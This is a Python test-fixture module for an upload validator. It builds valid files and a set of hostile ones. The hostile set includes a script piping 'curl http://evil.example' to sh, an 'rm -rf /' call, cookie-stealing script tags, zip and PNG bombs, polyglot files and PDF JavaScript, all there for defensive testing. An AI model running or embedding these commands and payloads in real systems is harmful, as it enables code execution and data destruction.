"""Files for upload tests, made in memory: good ones of every kind kept, and hostile ones."""

import io
import zipfile

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from pypdf import PdfWriter


def pdf_bytes(pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def image_bytes(fmt: str = "PNG", size=(40, 30)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 10, 10)).save(out, fmt)
    return out.getvalue()


def zip_bytes(entries: dict, *, stored: set = frozenset()) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(
                name, data, compress_type=zipfile.ZIP_STORED if name in stored else None
            )
    return out.getvalue()


def docx_bytes(extra: dict | None = None) -> bytes:
    return zip_bytes(
        {
            "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxml'
            'formats.org/package/2006/content-types"/>',
            "_rels/.rels": "<Relationships/>",
            "word/document.xml": "<w:document>Letter from Mr Dunn</w:document>",
            **(extra or {}),
        }
    )


def odt_bytes() -> bytes:
    return zip_bytes(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": "<office:document-content/>",
        },
        stored={"mimetype"},
    )


def upload(name: str, content: bytes, content_type: str = "application/octet-stream"):
    return SimpleUploadedFile(name, content, content_type=content_type)


GOOD = {
    "referral.pdf": (pdf_bytes, "application/pdf", "pdf"),
    "photo.jpg": (lambda: image_bytes("JPEG"), "image/jpeg", "jpg"),
    "photo.png": (lambda: image_bytes("PNG"), "image/png", "png"),
    "anim.gif": (lambda: image_bytes("GIF"), "image/gif", "gif"),
    "photo.webp": (lambda: image_bytes("WEBP"), "image/webp", "webp"),
    "scan.tiff": (lambda: image_bytes("TIFF"), "image/tiff", "tif"),
    "letter.docx": (
        docx_bytes,
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        "docx",
    ),
    "letter.odt": (odt_bytes, "application/vnd.oasis.opendocument.text", "odt"),
    "notes.txt": (lambda: b"Rang Mrs Carter; she will call back.\n", "text/plain", "txt"),
}


def zip_bomb() -> bytes:
    """A .docx whose one entry inflates a thousandfold (zeros compress to almost nothing)."""
    return docx_bytes({"word/media/bomb.bin": b"\0" * (20 * 1024 * 1024)})


def png_bomb() -> bytes:
    """A small PNG of 9,000 x 9,000 pixels: 81 megapixels, under Pillow's own warning and over
    the cap."""
    out = io.BytesIO()
    Image.new("1", (9_000, 9_000)).save(out, "PNG")
    return out.getvalue()


HOSTILE = {
    # name: (bytes, words the refusal must say)
    "script-renamed.pdf": (b"#!/bin/sh\ncurl http://evil.example | sh\n", "not one of the types"),
    "python.pdf": (b"#!/usr/bin/env python3\nimport os\nos.system('rm -rf /')\n", "not one of"),
    "page.html": (b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>", "HTML"),
    "script.pdf": (b"<script>alert(document.cookie)</script>", "HTML"),
    "drawing.svg": (
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "SVG",
    ),
    "plain.svg": (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><rect/></svg>',
        "SVG",
    ),
    "empty.pdf": (b"", "empty"),
    "archive.pdf": (zip_bytes({"a.txt": "x"}), "ZIP archives"),
    "macro.docx": (docx_bytes({"word/vbaProject.bin": b"\x01" * 100}), "macros"),
    "macro.odt": (
        zip_bytes(
            {
                "mimetype": "application/vnd.oasis.opendocument.text",
                "content.xml": "<office:document-content/>",
                "Basic/Standard/Module1.xml": "<script:module/>",
            },
            stored={"mimetype"},
        ),
        "macros",
    ),
    "broken.docx": (
        zip_bytes({"[Content_Types].xml": "<x/>", "_rels/.rels": "x", "word/styles.xml": "y"}),
        "damaged",
    ),
    "renamed.docx": (zip_bytes({"a.txt": "x", "b.txt": "y"}), "ZIP archives"),
    # PDF that is also a ZIP (a polyglot): a PDF with an archive appended.
    "polyglot.pdf": (pdf_bytes() + zip_bytes({"evil.html": "<script>x</script>"}), "also a ZIP"),
    # JPEG that is also a ZIP.
    "polyglot.jpg": (image_bytes("JPEG") + zip_bytes({"a.js": "alert(1)"}), "also a ZIP"),
    # A PDF carrying HTML in its first kilobyte, for a browser to sniff.
    "sniffed.pdf": (
        b"%PDF-1.4\n<html><script>alert(1)</script></html>\n" + pdf_bytes()[9:],
        "markup",
    ),
    # PDF not at byte 0: libmagic may call it a PDF, browsers and pypdf may not agree.
    "late.pdf": (b"\n\n  " + pdf_bytes(), "begin with %PDF-"),
    "truncated.pdf": (b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog", "damaged"),
    "javascript.pdf": (
        pdf_bytes()[:-6] + b"\n5 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj\n%%EOF",
        "scripts",
    ),
    "truncated.png": (image_bytes("PNG")[:60], "damaged"),
}
